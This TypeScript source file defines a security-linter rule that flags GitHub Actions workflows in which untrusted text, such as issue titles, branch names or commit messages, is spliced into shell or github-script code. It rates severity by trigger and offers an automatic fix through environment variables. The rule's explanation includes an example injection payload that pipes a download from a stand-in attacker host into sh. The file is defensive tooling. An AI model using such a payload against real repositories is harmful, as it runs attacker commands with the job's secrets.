import { code } from '#finding/markdown';
import type { Remedy } from '#finding/remedy';
import { defineRule } from '#finding/rule';
import type { Severity } from '#finding/severity';
import { stepWords } from '#finding/workflow-words';
import type { Step } from '#model/documents';
import { excerpt } from '#model/excerpt';
import type { Property } from '#model/property';
import { shellQuoting } from '#model/shell';
import { Text } from '#model/text';
import {
  actionOf,
  isWorkflow,
  type JobStep,
  jobDeploys,
  openTriggers,
  readsSecrets,
  runsInPosixShell,
  stepsOf,
  triggersOf,
  type WorkflowOrAction,
} from '#model/workflow';
import { type Expression, expressionsIn, sourceOf } from '#model/workflow-expression';

/** https://docs.github.com/en/actions/concepts/security/script-injections */
export const rule = defineRule({
  title: 'Text from outside becomes part of a script',
  why: 'GitHub puts the value into the script before the shell reads it. A title or branch name such as `"; curl attacker.example | sh #` is then no text but a command, which runs with the secrets of the job.',
  how: 'Hand the value over in `env:` and use it as a quoted variable, `"$TITLE"`; in `actions/github-script` read it from `context.payload`.',
  severity: 'high',
  confidence: 'high',
  lifecycle: 'stable',
  practices: [6, 26],
  cwe: [78, 94],
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
  ],
  aliases: {
    checkov: ['CKV_GHA_2'],
    kics: ['20f14e1a', '62ff6823'],
    semgrep: ['run-shell-injection', 'github-script-injection'],
    zizmor: ['template-injection'],
  },
  subject: ['GitHub::Actions::Workflow', 'GitHub::Actions::Action'],
  *check(resource) {
    for (const one of stepsOf(resource)) {
      for (const script of scriptsOf(one.step)) {
        const foreign = expressionsIn(script.text).filter((each) =>
          each.contexts.some((context) => isForeign(context)),
        );
        const [first] = foreign;
        if (!first) continue;
        const who = whoWrites(resource, one, foreign);
        if (!who) continue;
        const names = [...new Set(foreign.map((each) => each.code))];
        const remedy = remedyFor(resource, one, script, foreign);
        yield {
          at: excerpt(script, new Text([{ kind: 'hole', why: first.source, name: first.code }])),
          about: names.slice(1).sort().join(),
          message: `${who.words} that becomes part of the script of ${stepWords(one)}: ${names.map((name) => code(name)).join(', ')}.`,
          severity: who.severity,
          ...(remedy ? { remedy } : {}),
        };
      }
    }
  },
});

/** Texts that somebody without any right in the repository can choose freely. */
const FOREIGN: readonly RegExp[] = [
  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
  /^github\.event\.(?:comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.(?:commits\.\*|head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name))$/,
  /^github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)$/,
  /^github\.event\.workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)$/,
  /^github\.head_ref$/,
];

function isForeign(context: string): boolean {
  return FOREIGN.some((pattern) => pattern.test(context));
}

/** The scripts of a step: what a shell runs, and what `actions/github-script` runs. */
function scriptsOf(step: Property<Step>): readonly Property<string>[] {
  const inline = actionOf(step)?.name === 'actions/github-script' ? step.at('with', 'script') : [];
  return [...step.at('run'), ...inline];
}

/** Who chooses the text, and how bad that is here; undefined where the event does not carry it. */
function whoWrites(
  resource: WorkflowOrAction,
  { in: job }: JobStep,
  foreign: readonly Expression[],
): { readonly words: string; readonly severity: Severity } | undefined {
  if (!isWorkflow(resource)) return CALLED;
  const events = new Set(triggersOf(resource).map(({ event }) => event));
  const contexts = foreign.flatMap((one) => one.contexts).filter((context) => isForeign(context));
  const open = openTriggers(resource).find(({ event }) => contexts.some((context) => carries(event, context)));
  if (open) {
    const holds = job !== undefined && (jobDeploys(resource, job) || readsSecrets(job.job));
    return { words: `On ${code(open.event)} anybody writes the text`, severity: holds ? 'critical' : 'high' };
  }
  if (events.has('push') && contexts.some((context) => /commit/.test(context)))
    return { words: 'Whoever has a commit merged writes the text', severity: 'medium' };
  const proposal = [...events].find((event) => /^pull_request(?:_review(?:_comment)?)?$/.test(event));
  if (proposal !== undefined && contexts.some((context) => carries('pull_request', context)))
    return { words: `On ${code(proposal)} whoever opens the pull request writes the text`, severity: 'low' };
  return events.has('workflow_call') ? CALLED : undefined;
}

/** A called workflow and an action do not know the event; some callers start on one that anybody can raise. */
const CALLED: { readonly words: string; readonly severity: Severity } = {
  words: 'The event that starts the caller brings the text',
  severity: 'medium',
};

/** Whether an event's payload has the context at all. */
function carries(event: string, context: string): boolean {
  if (event === 'issues') return context.startsWith('github.event.issue.');
  if (event === 'issue_comment') return /^github\.event\.(?:issue|comment)\./.test(context);
  if (event.startsWith('discussion')) return /^github\.event\.(?:discussion|comment)\./.test(context);
  if (event === 'workflow_run') return context.startsWith('github.event.workflow_run.');
  return /^github\.(?:event\.(?:pull_request|review|comment|review_comment)\.|head_ref$)/.test(context);
}

/** The values moved to the environment; undefined where the script cannot be told apart for certain. */
function remedyFor(
  resource: WorkflowOrAction,
  one: JobStep,
  script: Property<string>,
  foreign: readonly Expression[],
): Remedy | undefined {
  const { step } = one;
  const { text } = script;
  if (!(text instanceof Text)) return undefined;
  const isShell = script.path.at(-1) === 'run';
  if (isShell && !runsInPosixShell(resource, one)) return undefined;
  const [environment] = step.at('env');
  const taken = new Set(environment?.entries().map(([name]) => name) ?? []);
  const names = new Map<string, string>();
  let changed = sourceOf(text);
  for (const { source, code: expression } of foreign) {
    const name = names.get(expression) ?? freeName(expression, taken);
    // A script that knows the name already has a meaning for it.
    if (name === undefined || sourceOf(text).includes(name)) return undefined;
    names.set(expression, name);
    for (let at = changed.indexOf(source); at !== -1; at = changed.indexOf(source)) {
      const put = isShell ? shellVariable(changed, at, source, name) : scriptVariable(changed, at, source, name);
      if (!put) return undefined;
      changed = changed.slice(0, put.start) + put.text + changed.slice(put.end);
    }
  }
  const added = Object.fromEntries([...names].map(([expression, name]) => [name, `\${{ ${expression} }}`]));
  const written = environment?.isAbsent === false;
  return {
    title: 'Hand the text over in the environment',
    applicability: 'unsafe',
    patches: [
      ...(written && environment
        ? Object.entries(added).map(([name, value]) => ({
            op: 'set' as const,
            resource: step.resource,
            path: [...environment.path, name],
            value,
          }))
        : step.at('env').map((one) => one.set(added))),
      script.set(changed),
    ],
  };
}

/** `PULL_REQUEST_TITLE` for `github.event.pull_request.title`. */
function freeName(expression: string, taken: Set<string>): string | undefined {
  if (!/^github\.[\w.-]{1,100}$/.test(expression)) return undefined;
  const words = expression.replace(/^github\.(?:event\.)?/, '').replace(/[^A-Za-z0-9]{1,10}/g, '_');
  const name = words.toUpperCase();
  if (taken.has(name) || /^(?:GITHUB|RUNNER)_/.test(name)) return undefined;
  taken.add(name);
  return name;
}

interface Put {
  readonly start: number;
  readonly end: number;
  readonly text: string;
}

function shellVariable(script: string, at: number, source: string, name: string): Put | undefined {
  const quoting = shellQuoting(script, at);
  const end = at + source.length;
  if (quoting === undefined) return undefined;
  if (quoting === 'double') return { start: at, end, text: `\${${name}}` };
  if (quoting === 'bare') return { start: at, end, text: `"\${${name}}"` };
  const alone = script[at - 1] === "'" && script[end] === "'";
  return alone ? { start: at - 1, end: end + 1, text: `"\${${name}}"` } : { start: at, end, text: `'"\${${name}}"'` };
}

/** The global by which a script of `actions/github-script` reads its environment. */
const NODE = 'process';

/** In JavaScript only a string that is the whole value can be told for certain. */
function scriptVariable(script: string, at: number, source: string, name: string): Put | undefined {
  const end = at + source.length;
  const quote = script[at - 1] ?? '';
  if (!['"', "'", '`'].includes(quote) || script[end] !== quote) return undefined;
  return { start: at - 1, end: end + 1, text: `${NODE}.env.${name}` };
}
